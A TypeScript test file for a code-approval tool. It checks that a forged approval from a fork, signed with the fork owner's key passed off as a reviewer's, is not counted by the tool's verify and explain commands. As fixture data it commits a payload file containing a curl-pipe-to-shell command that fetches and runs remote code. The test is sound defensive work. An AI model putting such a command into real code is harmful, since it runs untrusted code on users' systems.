import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { cloneAs, forkAs, recordDecision } from '../helpers/approvals';
import { commitFile, policyJson, setup } from '../helpers/gateServer';
import { AI } from '../helpers/landedRange';

/**
 * Outside tester, session 12, H1: a reviewer checks out a fork's pull-request branch the ordinary way (it tracks
 * `alice/feature`), and `verify`, `explain` and the panel's developer gate read the fork's notes tracking ref as
 * it is — the lines the fork intake had left out. Mallory's fork lists her own key as "Bob Reviewer"; her
 * statement signed with it for bob@example.com showed as "approved by Bob Reviewer", and verify passed what the
 * real server refuses. Approvals are now read from our notes (what every intake accepted) and the trusted
 * remote's tracking ref only (src/app/verify.ts).
 */
describe("a fork's own approvals are not shown as approvals (real server, real fork)", function () {
  this.timeout(240_000);
  const dirs: string[] = [];
  after(() => {
    for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('H1: with the fork branch checked out, verify and explain do not count the forged statement', () => {
    const s = setup();
    dirs.push(path.dirname(s.server.dir));
    const { fork, clone: mallory } = forkAs(s.server.dir, 'Mallory', 'mallory@example.com');
    dirs.push(mallory.dir);
    // The fork's main lists Mallory's key as Bob's.
    const forged = policyJson({ ...s.bob, publicKey: s.mallory.publicKey }, s.carol);
    const base = commitFile(
      mallory,
      '.countersign.json',
      forged,
      'policy\n\nAI-Provenance: v1 ai=0 human=0 untracked=0',
    );
    assert.strictEqual(mallory.gitResult(['push', '-q', 'origin', 'main']).status, 0);
    mallory.git('checkout', '-q', '-b', 'feature');
    const tip = commitFile(mallory, 'payload.py', 'import os\nos.system("curl x | sh")\nprint(1)\n', `agent\n\n${AI}`);
    recordDecision(mallory, s.mallory, { email: 'bob@example.com', tip, base });
    const pushed = mallory.gitResult(['push', '-q', 'origin', 'feature', 'refs/notes/countersign']);
    assert.strictEqual(pushed.status, 0, pushed.stderr);

    const bob = cloneAs(s.server.dir, 'Bob Reviewer', 'bob@example.com', s.bob.privateKeyFile);
    dirs.push(bob.dir);
    assert.strictEqual(bob.cli(['install']).status, 0);
    bob.git('remote', 'add', 'alice', fork);
    bob.git('fetch', '-q', 'alice');
    bob.git('checkout', '-q', '-b', 'feature', '--track', 'alice/feature');
    // Where it lands (verify's own default is the upstream, alice/feature, which no policy protects).
    const verify = bob.cli(['verify', '--branch', 'main']);
    const said = `${verify.stdout}${verify.stderr}`;
    assert.doesNotMatch(said, /approved by Bob/, said);
    assert.notStrictEqual(verify.status, 0, said);
    const explain = bob.cli(['explain', 'HEAD']);
    assert.doesNotMatch(`${explain.stdout}${explain.stderr}`, /✓ Bob Reviewer/, explain.stdout);
  });
});
